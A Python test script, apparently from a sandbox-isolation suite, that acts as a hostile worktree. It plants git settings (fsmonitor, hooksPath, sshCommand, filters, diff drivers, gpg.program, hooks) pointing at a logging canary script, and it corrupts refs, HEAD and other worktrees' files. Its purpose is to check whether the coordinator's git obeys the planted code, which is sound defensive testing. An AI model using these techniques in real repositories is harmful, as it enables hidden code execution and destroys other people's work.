"""Plants settings and programs in git's folders, for the coordinator's own git to obey; moves other
branches. Leaves a change behind, so that there is something to commit."""

import os
import stat
import subprocess

from common import EVIDENCE, MARK, attempt, quietly, say

here = os.getcwd()
evil = os.path.join(here, "evil.sh")
with open(evil, "w") as file:
    file.write(f"#!/bin/sh\necho \"$0 $*\" >>{EVIDENCE}\ncat\n")
os.chmod(evil, 0o755)


def git(*words):
    done = quietly(lambda: subprocess.run(["git", *words], capture_output=True, text=True, timeout=20))
    return done.stdout.strip() if done and done.returncode == 0 else None


common = os.path.abspath(git("rev-parse", "--git-common-dir") or ".git")
own = os.path.abspath(git("rev-parse", "--absolute-git-dir") or ".git")
SETTINGS = f"""
[core]
\tfsmonitor = {evil}
\thooksPath = {here}
\tsshCommand = {evil}
\tpager = {evil}
\teditor = {evil}
\tattributesFile = {here}/.gitattributes
[filter "evil"]
\tclean = {evil} clean
\tsmudge = {evil} smudge
\trequired = true
[diff]
\texternal = {evil}
[diff "evil"]
\tcommand = {evil} diff
\ttextconv = {evil} textconv
[merge "evil"]
\tdriver = {evil} merge %A
[gpg]
\tprogram = {evil}
[commit]
\tgpgSign = true
[alias]
\tstatus = !{evil}
[include]
\tpath = {here}/evil.config
[extensions]
\tworktreeConfig = true
"""


def append(path, text):
    with open(path, "a") as file:
        file.write(text)
    return True


def script(path):
    append(path, f"#!/bin/sh\nexec {evil} \"$0\"\n")
    os.chmod(path, stat.S_IRWXU)


def replace(path, text):
    """Not by writing but by moving something there."""
    append("beside", text)
    os.rename("beside", path)


for name in ("config", "config.worktree"):
    attempt(f"write {common}/{name}", lambda: append(f"{common}/{name}", SETTINGS))
    attempt(f"write {own}/{name}", lambda: append(f"{own}/{name}", SETTINGS))
attempt("move settings over config", lambda: replace(f"{common}/config", SETTINGS))
attempt("git config", lambda: print(git("config", "core.fsmonitor", evil)), None)
attempt("git config --worktree", lambda: print(git("config", "--worktree", "core.fsmonitor", evil)), None)
attempt("make hooks", lambda: os.makedirs(f"{common}/hooks", exist_ok=True), None)
for hook in ("pre-commit", "post-commit", "post-checkout", "reference-transaction", "post-index-change", "fsmonitor-watchman", "pre-merge-commit"):
    attempt(f"write {common}/hooks/{hook}", lambda: script(f"{common}/hooks/{hook}"))
    attempt(f"write {own}/hooks/{hook}", lambda: script(f"{own}/hooks/{hook}"))
    script(os.path.join(here, hook))
attempt("move hooks", lambda: os.rename(f"{common}/hooks", f"{common}/hooks.old"))
attempt("move info", lambda: os.rename(f"{common}/info", f"{common}/info.old"))
for file, text in [
    ("info/attributes", "* filter=evil diff=evil merge=evil\n"),
    ("info/exclude", "*\n"),
    ("info/grafts", "0\n"),
    ("objects/info/alternates", "/\n"),
    ("packed-refs", "hostile\n"),
    ("HEAD", "hostile\n"),
    ("shallow", "hostile\n"),
    (f"refs/heads/hostile-{MARK}", "hostile\n"),
    ("refs/heads/main", "hostile\n"),
    ("logs/refs/heads/main", "hostile\n"),
    ("logs/HEAD", "hostile\n"),
]:
    attempt(f"write {common}/{file}", lambda: append(f"{common}/{file}", text))
for file, text in [("commondir", f"{here}/fake\n"), ("gitdir", "/etc/hostile\n"), ("locked", "hostile\n")]:
    attempt(f"write {own}/{file}", lambda: append(f"{own}/{file}", text))
    attempt(f"replace {own}/{file}", lambda: replace(f"{own}/{file}", text))
for name in quietly(lambda: os.listdir(f"{common}/worktrees")) or []:
    other = f"{common}/worktrees/{name}"
    if not own.endswith(f"/{name}"):
        for file in ("HEAD", "index", "gitdir", "commondir", "config.worktree"):
            attempt(f"write {other}/{file}", lambda: append(f"{other}/{file}", "hostile\n"))
branch = git("symbolic-ref", "HEAD") or ""
for other in (git("for-each-ref", "--format=%(refname)") or "").split("\n"):
    if other and other != branch:
        attempt(f"move {other}", lambda: append(f"{common}/{other}", "hostile\n"))
        say(f"git update-ref {other}: {git('update-ref', other, 'HEAD~0') is not None}")
with open(".gitattributes", "w") as file:
    file.write("* filter=evil diff=evil merge=evil\n")
with open("evil.config", "w") as file:
    file.write(SETTINGS)
with open("change.txt", "w") as file:
    file.write("something to commit\n")
# What I caused myself is no evidence.
quietly(lambda: os.unlink(EVIDENCE))
say("done")
